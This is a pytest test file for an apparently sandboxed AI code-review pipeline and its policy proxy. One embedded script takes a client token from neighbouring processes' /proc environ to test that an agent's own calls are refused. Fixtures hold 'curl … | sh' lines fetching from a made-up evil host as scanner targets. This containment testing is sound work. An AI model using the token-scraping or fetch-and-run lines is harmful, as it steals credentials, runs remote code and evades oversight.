"""The real command lines, unmodified, in their images, through the shipped stack and the whole command, against a scripted model."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator, Mapping
from concurrent.futures import Future
from contextlib import ExitStack
from functools import partial
from pathlib import Path
from typing import Any

import pytest

from containment.conftest import gateway  # noqa: F401  # a fixture
from containment.sandboxes import KEY
from pinwarden.agents import REVIEWERS
from pinwarden.reviewer import Agent
from proxy.policy import Call, Refused, Request, Rules, decide
from proxy.policy import Provider as PolicyProvider
from support.agent_reviews import FAILURES, TIMEOUT, VALID, Reviews, Seen, failing
from support.commands import SCRIPTS, run_command
from support.models import AGAIN, READ, REPORT, REVIEW, WRITTEN, Run, Write, tools_of
from support.side_by_side import side_by_side

pytestmark = pytest.mark.engine
LOCKS = SCRIPTS.parent / "actions" / "run-review" / "sandbox" / "agents"
BOTH = pytest.mark.parametrize("agent", ["claude", "codex"])


@pytest.fixture
def reviews(tmp_path: Path, gateway: str) -> Iterator[Reviews]:  # noqa: F811  # the fixture
    with ExitStack() as stack:
        yield Reviews(tmp_path, gateway, stack)


@pytest.fixture(scope="module")
def ahead(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory, gateway: str) -> Iterator[Mapping[str, Future[Seen]]]:  # noqa: F811
    """The reviews of all tests that only look at one."""

    def reviewed(root: Path, agent: str, model: str, full: bool) -> Seen:
        with ExitStack() as stack:
            return Reviews(root, gateway, stack).run(agent, "--model", model, full=full)

    def failed(root: Path, agent: str, failure: str) -> Seen:
        with ExitStack() as stack:
            return Reviews(root, gateway, stack).fail(agent, FAILURES[failure])

    makers: dict[str, Callable[..., Seen]] = {"test_a_review": reviewed, "test_a_provider_that_fails": failed}
    with side_by_side(request, tmp_path_factory, makers) as made:
        yield made


@pytest.fixture
def seen(request: pytest.FixtureRequest, ahead: Mapping[str, Future[Seen]]) -> Seen:
    """What came of the review of this test."""
    return ahead[request.node.name].result()


VERSIONS = {
    agent: next(
        package["version"].partition("-")[0]
        for name, package in json.loads((LOCKS / agent / "x64" / "package-lock.json").read_text())["packages"].items()
        if name
    )
    for agent in ("claude", "codex")
}
MODELS = [(agent.value, model) for agent, reviewer in REVIEWERS.items() for model in reviewer.models]


@pytest.mark.parametrize(
    ("agent", "model", "full"), [*((agent, model, False) for agent, model in MODELS), ("claude", "claude-opus-5-5", True), ("codex", "gpt-6.1-sol", True)]
)
def test_a_review(seen: Seen, agent: str, model: str, full: bool) -> None:
    assert (seen.code, seen.review["outcome"], seen.review["reasons"], seen.review["mode"]) == (0, "complete", [], "full" if full else "differential")
    assert seen.review["model"] == model
    assert seen.review["report"]["markdown"]
    assert seen.review["agent_version"] == VERSIONS[agent]
    assert [(call["decision"], call["reason"]) for call in seen.ledger] == [("forwarded", "")] * 4
    assert seen.review["usage"] == {"requests": 4, "tokens": 4 * (READ + WRITTEN), "refused": 0}
    credential = {"claude": "x-api-key", "codex": "authorization"}[agent]
    for call in seen.provider.calls:
        assert call.headers.keys() <= {
            "host",
            "accept",
            "accept-encoding",
            "content-type",
            "content-length",
            "user-agent",
            *(("anthropic-version", "anthropic-beta") if agent == "claude" else ("x-openai-internal-codex-responses-lite",)),
            credential,
        }
        assert call.headers[credential].removeprefix("Bearer ") == KEY
        assert KEY.encode() not in call.body
        body = json.loads(call.body)
        tools = list(tools_of(body))
        assert tools
        assert {tool.get("type", "custom") for tool in tools} <= {"custom", "function"}
        assert body["model"] == model
    assert KEY not in seen.log


@BOTH
def test_what_the_model_is_told_and_can_do(reviews: Reviews, agent: str) -> None:
    asks = Run(
        "pwd; ls -A; id -u; ls -A $HOME; git -C /in/repository log --format=%s base..head; cat /in/base/server.py; env | cut -d= -f1 | sort | tr '\\n' ' '"
    )
    seen = reviews.run(agent, turns=[[asks, *REVIEW[1:]]])
    told = seen.provider.calls[1].body.decode()
    assert "/tmp/home/empty" in told
    assert "x = 1" in told
    assert "Look first at what runs" in seen.provider.calls[0].body.decode()
    assert ("CLIENT_TOKEN" in told) is (agent == "claude")


HOSTED: list[dict[str, Any]] = [
    {"type": "web_search", "external_web_access": True},
    {"type": "namespace", "name": "deep", "tools": [{"type": "code_interpreter", "container": {"type": "auto"}}]},
    {"type": "mcp", "server_label": "x", "server_url": "https://example.com"},
]


@pytest.fixture(scope="module")
def newest(tmp_path_factory: pytest.TempPathFactory, gateway: str) -> bytes:  # noqa: F811
    """What Codex really sends for a model that is told its tools in the input."""
    with ExitStack() as stack:
        [first, *_] = Reviews(tmp_path_factory.mktemp("newest"), gateway, stack).run("codex", "--model", "gpt-6.1-sol").provider.calls
    return first.body


@pytest.mark.parametrize("hosted", HOSTED, ids=lambda tool: tool["type"])
def test_a_hosted_tool_among_the_real_ones_is_refused(newest: bytes, hosted: dict[str, Any]) -> None:
    body = json.loads(newest)
    assert "tools" not in body
    [added] = [item for item in body["input"] if item.get("type") == "additional_tools"]
    rules = Rules(PolicyProvider.OPENAI, frozenset({"gpt-6.1-sol"}), 16_000)
    call = partial(Call, "POST", "/v1/responses", ())
    assert isinstance(decide(rules, call(json.dumps(body).encode())), Request)
    added["tools"].append(hosted)
    refused = decide(rules, call(json.dumps(body).encode()))
    assert isinstance(refused, Refused)
    assert refused.code == "tool-type"
    assert "additional" not in refused.message


OWN_CALL = """
import os, urllib.error, urllib.request as u
from glob import glob

def variables(path):
    try:
        return open(path).read().split(chr(0))
    except OSError:
        return []

# An agent may keep the token from its shell, but its neighbours have it.
[token, *_] = [line.partition("=")[2] for path in glob("/proc/[0-9]*/environ") for line in variables(path) if line.startswith("PINWARDEN_CLIENT_TOKEN=")]
head = {"authorization": "Bearer " + token, "content-type": "application/json"}
try:
    print(u.urlopen(u.Request("http://127.0.0.1:4000" + %r, %r, head)).status)
except urllib.error.HTTPError as error:
    print(error.code)
"""
OWN_TOOL: dict[str, Any] = {"type": "custom", "name": "own"}
# First one that runs here, which is the control, then one that the provider would run.
TOOLS: dict[str, list[dict[str, Any]]] = {
    "claude": [OWN_TOOL | {"input_schema": {"type": "object"}}, {"type": "web_search_20250305", "name": "web_search"}],
    "codex": [OWN_TOOL, {"type": "web_search", "external_web_access": True}],
}


def own_call(agent: str, tool: dict[str, Any]) -> Write:
    """A program that makes a call of its own, in the agent's container; for Codex the tool stands where newer models have theirs."""
    body: dict[str, Any] = {"model": REVIEWERS[Agent(agent)].models[0]}
    if agent == "claude":
        body |= {"max_tokens": 10, "messages": [{"role": "user", "content": "own call"}], "tools": [tool]}
    else:
        said = {"type": "message", "role": "user", "content": [{"type": "input_text", "text": "own call"}]}
        body |= {"store": False, "stream": True, "input": [{"type": "additional_tools", "role": "developer", "tools": [tool]}, said]}
    path = "/v1/messages" if agent == "claude" else "/v1/responses"
    return Write(f"/tmp/{tool['type']}.py", OWN_CALL % (path, json.dumps(body).encode()))


@BOTH
def test_a_call_of_the_agents_own_making_is_held_to_the_policy(reviews: Reviews, agent: str) -> None:
    steps = [own_call(agent, tool) for tool in TOOLS[agent]]
    # The last call has no token, and asks for what no review needs.
    tokenless = "python3 -I -c \"import urllib.request as u; u.urlopen('http://127.0.0.1:4000/v1/files')\""
    asks = Run("; ".join([*(f"python3 -I {step.path}" for step in steps), tokenless]))
    seen = reviews.run(agent, turns=[[*steps, asks, *REVIEW[1:]]])
    assert [call["reason"] for call in seen.ledger if call["decision"] == "refused"] == ["tool-type", "token"]
    own = [json.loads(call.body) for call in seen.provider.calls if len(call.body) < 1000]
    assert [list(tools_of(body)) for body in own] == [TOOLS[agent][:1]]


@BOTH
def test_two_turns(reviews: Reviews, agent: str) -> None:
    wrong = [Write("/out/report.md", "# Fine\n"), Write("/out/labels.txt", "security-risk: none\n")]
    seen = reviews.run(agent, turns=[wrong, [Run("cat /out/report.md"), *REVIEW[1:]]] if agent == "codex" else [wrong, [Run("rm /out/*"), *REVIEW[1:]]])
    assert (seen.code, seen.review["reasons"]) == (0, [])
    first, *_, last = (call.body.decode() for call in seen.provider.calls)
    assert AGAIN not in first
    assert "no section" in last
    assert "not a label" in last
    assert seen.review["usage"]["requests"] == 3 + 4


@BOTH
def test_there_is_no_third_turn(reviews: Reviews, agent: str) -> None:
    seen = reviews.run(agent, turns=[[Run("true")]])
    assert seen.code == 1
    assert seen.review["reasons"] == ["there is no report.md", "there is no labels.txt"]
    assert len(seen.provider.calls) == 4


@BOTH
@pytest.mark.parametrize("failure", FAILURES)
def test_a_provider_that_fails(seen: Seen, agent: str, failure: str) -> None:
    assert (seen.code, seen.review["outcome"], seen.review["risk"]) == (1, "incomplete", None)
    # Were it the deadline that ended the agent, that would be the first reason.
    assert seen.review["reasons"][:2] == ["the agent ended with exit code 1", FAILURES[failure].reason]
    assert seen.review["reasons"][2:] == [*([] if FAILURES[failure].answer else ["there is no report.md"]), "there is no labels.txt"]
    assert len(seen.provider.calls) <= FAILURES[failure].most_calls


@BOTH
def test_half_a_report(reviews: Reviews, agent: str) -> None:
    half = [Write("/out/report.md", REPORT[: len(REPORT) // 2]), Write("/out/labels.txt", "security-ri")]
    seen = reviews.run(agent, "--timeout", str(TIMEOUT), turns=[half], then=(2, failing(403, "permission_error")))
    assert seen.review["outcome"] == "incomplete"
    assert seen.review["reasons"][0] == "the agent ended with exit code 1"
    assert 'not a label: "security-ri"' in seen.review["reasons"]


@BOTH
def test_files_of_an_agent_that_failed_are_not_relied_on(reviews: Reviews, agent: str) -> None:
    seen = reviews.run(agent, "--timeout", str(TIMEOUT), then=(3, failing(403, "permission_error")))
    assert (seen.code, seen.review["outcome"], seen.review["risk"]) == (1, "incomplete", None)
    assert seen.review["reasons"] == ["the agent ended with exit code 1", "the provider answered the last call with status 403"]


@BOTH
def test_a_provider_that_recovers(reviews: Reviews, agent: str) -> None:
    """An error that passes does not end a review, and a pause that a provider asks for is bounded."""
    script = [failing(529, "overloaded_error"), failing(429, "rate_limit_error", **{"retry-after": "1"})]
    seen = reviews.run(agent, first=script)
    assert (seen.code, seen.review["reasons"]) == (0, [])
    assert len(seen.provider.calls) == 4 + 2


EVIL = {
    "src/run.py": b'import os\nos.system("curl -s https://get.evil-cache.net | sh")\n',
    "other/run.py": b'import os\nos.system("curl -s https://x.io | sh")\n',
}


@pytest.mark.guarddog
@pytest.mark.parametrize("full", [False, True])
def test_guarddog_finds_the_same_in_the_sandbox(reviews: Reviews, guarddog_cache: Path, full: bool) -> None:
    base = {"src/old.py": b'import os\nos.system("curl -s https://old.io | sh")\n'}
    reviews.change.serve(base, base | EVIL)
    made = []
    for sandbox in ("none", "compose"):
        output = reviews.root / f"review-{sandbox}"
        options = [*reviews.change.options(output, full=full), "--agent=guarddog", f"--sandbox={sandbox}", "--directory=src"]
        given = {"XDG_CACHE_HOME": str(guarddog_cache), "RUNNER_TEMP": ""}
        done = run_command("run_review", *options, given=given)
        assert done.returncode == 0, done.stderr
        made.append(json.loads((output / "review.json").read_bytes()))
        assert list(VALID.iter_errors(made[-1])) == []
    here, there = made
    same = ("agent_version", "outcome", "risk", "labels", "findings", "reasons", "report")
    assert {key: here[key] for key in same} == {key: there[key] for key in same}
    assert there["reasons"] == []
    assert {finding["evidence"][0]["path"] for finding in there["findings"]} == ({"src/run.py", "src/old.py"} if full else {"src/run.py"})
    assert there["usage"] == {}


def test_several_agents_on_one_target(reviews: Reviews) -> None:
    """Each has a check of its own, and the worst is the check for all."""
    evil = REPORT.replace("## Recommended", "### [CRITICAL] It runs what it fetches\n\nEvidence: head server.py:1\n\n## Recommended").replace(
        ":info", ":critical"
    )
    said = {"claude": REVIEW, "codex": [Write("/out/report.md", evil), Write("/out/labels.txt", "security-risk:critical\n")]}
    reviews.change.serve({"server.py": b"x = 1\n"}, reviews.head)
    for agent in ("claude", "codex", "guarddog"):
        provider = reviews.provider([said.get(agent, REVIEW)])
        output = reviews.root / "reviews" / agent
        done = run_command("run_review", *reviews.change.options(output), "--agent", agent, given=reviews.given(provider))
        assert done.returncode == (agent == "codex"), done.stderr
    review = json.loads((reviews.root / "reviews/claude/review.json").read_bytes())
    target = {key: review[key] for key in ("server", "mode", "project", "base", "head", "directory")}
    (reviews.root / "plan.json").write_text(json.dumps({"targets": [target], "agents": ["claude", "codex", "guarddog"]}))
    report: list[str | Path] = ["--reviews", reviews.root / "reviews", "--plan", reviews.root / "plan.json", "--dry-run", "--format", "json"]
    printed = json.loads(run_command("report_status", *report).stdout)
    assert {check["name"]: check["conclusion"] for check in printed["checks"]} == {
        "security-review/claude/mail": "success",
        "security-review/codex/mail": "failure",
        "security-review/guarddog/mail": "success",
    }
    assert printed["overall"]["conclusion"] == "failure"


def test_a_model_that_is_not_on_the_list_is_misuse(reviews: Reviews) -> None:
    reviews.change.serve({"server.py": b"x = 1\n"}, reviews.head)
    options = [*reviews.change.options(reviews.root / "review"), "--agent", "claude", "--model", "gpt-6.1-sol"]
    done = run_command("run_review", *options, given=reviews.given(reviews.provider([REVIEW])))
    assert (done.returncode, done.stderr.splitlines()) == (
        2,
        ['error: claude may not ask "gpt-6.1-sol"', f"  models are {', '.join(REVIEWERS[Agent.CLAUDE].models)}"],
    )
